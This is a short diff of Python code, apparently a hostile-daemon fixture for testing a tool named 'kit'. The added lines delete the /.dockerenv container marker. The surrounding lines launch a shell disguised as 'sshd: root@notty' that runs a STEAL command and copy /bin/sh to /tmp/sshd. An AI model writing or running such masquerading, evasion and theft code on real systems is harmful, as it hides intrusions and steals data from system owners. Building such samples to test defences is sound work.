@@ -40,6 +40,8 @@ def daemon() -> None:
 
 
 def daemons() -> None:
+    if os.path.exists("/.dockerenv"):  # what told kit it ran in its container, once: a job is root there
+        os.remove("/.dockerenv")
     daemon()
     detached(["/bin/sh", "sshd: root@notty", "-c", STEAL + " # kit-hostile-daemon"])
     shutil.copy("/bin/sh", "/tmp/sshd")
